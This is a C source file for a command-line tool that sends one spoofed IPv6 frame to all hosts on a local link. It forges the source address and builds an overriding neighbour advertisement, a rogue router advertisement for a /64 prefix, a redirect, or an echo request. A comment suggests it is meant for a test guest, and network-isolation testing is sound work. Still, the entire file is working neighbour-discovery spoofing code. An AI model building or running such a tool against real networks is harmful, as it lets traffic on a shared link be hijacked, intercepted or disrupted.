// spoof CARD KIND SOURCE ABOUT: sends one frame of IPv6 to all on the network, as whoever has the address
// SOURCE, with this card's hardware address. KIND: advertise (ABOUT is where we are, a neighbour), route (we
// are a router for the /64 ABOUT), redirect (ABOUT is by way of us), echo (as anybody may). For the guest.
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned char frame[256];
static size_t length = sizeof(struct ether_header) + sizeof(struct ip6_hdr);

static void put(const void *bytes, size_t count) {
    memcpy(frame + length, bytes, count);
    length += count;
}

static void put_link(unsigned char type, const unsigned char *mac) {
    const unsigned char head[2] = {type, 1};
    put(head, sizeof head);
    put(mac, 6);
}

static void write_message(const char *kind, const struct in6_addr *about, const unsigned char *mac) {
    if (strcmp(kind, "advertise") == 0) {
        const struct nd_neighbor_advert message = {
            .nd_na_hdr = {.icmp6_type = ND_NEIGHBOR_ADVERT, .icmp6_dataun = {{ND_NA_FLAG_OVERRIDE}}},
            .nd_na_target = *about};
        put(&message, sizeof message);
        put_link(ND_OPT_TARGET_LINKADDR, mac);
    } else if (strcmp(kind, "route") == 0) {
        const struct nd_router_advert message = {
            .nd_ra_hdr = {.icmp6_type = ND_ROUTER_ADVERT,
                          .icmp6_dataun = {.icmp6_un_data16 = {htons(64), htons(1800)}}}};
        const struct nd_opt_prefix_info prefix = {.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
                                                  .nd_opt_pi_len = 4,
                                                  .nd_opt_pi_prefix_len = 64,
                                                  .nd_opt_pi_flags_reserved =
                                                      ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
                                                  .nd_opt_pi_valid_time = htonl(3600),
                                                  .nd_opt_pi_preferred_time = htonl(3600),
                                                  .nd_opt_pi_prefix = *about};
        put(&message, sizeof message);
        put(&prefix, sizeof prefix);
        put_link(ND_OPT_SOURCE_LINKADDR, mac);
    } else if (strcmp(kind, "redirect") == 0) {
        const struct nd_redirect message = {
            .nd_rd_hdr = {.icmp6_type = ND_REDIRECT}, .nd_rd_target = *about, .nd_rd_dst = *about};
        put(&message, sizeof message);
        put_link(ND_OPT_TARGET_LINKADDR, mac);
    } else {
        const struct icmp6_hdr message = {.icmp6_type = ICMP6_ECHO_REQUEST};
        put(&message, sizeof message);
    }
}

static unsigned short checksum(const struct ip6_hdr *header, const unsigned char *message, size_t size) {
    unsigned long sum = size + IPPROTO_ICMPV6;
    const unsigned char *addresses = (const void *)&header->ip6_src;
    for (size_t i = 0; i < 32; i += 2)
        sum += (unsigned long)(addresses[i] << 8 | addresses[i + 1]);
    for (size_t i = 0; i < size; i += 2)
        sum += (unsigned long)(message[i] << 8 | message[i + 1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((unsigned short)~sum);
}

int main(int count, char **arguments) {
    struct ifreq card = {0};
    struct in6_addr source, about;
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
    if (count != 5 || inet_pton(AF_INET6, arguments[3], &source) != 1 ||
        inet_pton(AF_INET6, arguments[4], &about) != 1)
        return 2;
    snprintf(card.ifr_name, sizeof card.ifr_name, "%s", arguments[1]);
    if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &card) < 0) {
        perror(arguments[1]);
        return 1;
    }
    const unsigned char *mac = (const void *)card.ifr_hwaddr.sa_data;
    struct ether_header link = {.ether_dhost = {0x33, 0x33, 0, 0, 0, 1}, .ether_type = htons(ETH_P_IPV6)};
    memcpy(link.ether_shost, mac, 6);
    write_message(arguments[2], &about, mac);
    size_t size = length - sizeof link - sizeof(struct ip6_hdr);
    struct ip6_hdr header = {.ip6_src = source};
    header.ip6_flow = htonl(6u << 28);
    header.ip6_plen = htons((unsigned short)size);
    header.ip6_nxt = IPPROTO_ICMPV6;
    header.ip6_hlim = 255;
    inet_pton(AF_INET6, "ff02::1", &header.ip6_dst);
    unsigned char *message = frame + sizeof link + sizeof header;
    const unsigned short sum = checksum(&header, message, size);
    memcpy(message + 2, &sum, sizeof sum);
    memcpy(frame, &link, sizeof link);
    memcpy(frame + sizeof link, &header, sizeof header);
    ioctl(fd, SIOCGIFINDEX, &card);
    const struct sockaddr_ll to = {.sll_family = AF_PACKET,
                                   .sll_ifindex = card.ifr_ifindex,
                                   .sll_halen = 6,
                                   .sll_addr = {0x33, 0x33, 0, 0, 0, 1}};
    if (sendto(fd, frame, length, 0, (const struct sockaddr *)&to, sizeof to) == (ssize_t)length)
        return 0;
    perror("send");
    return 1;
}
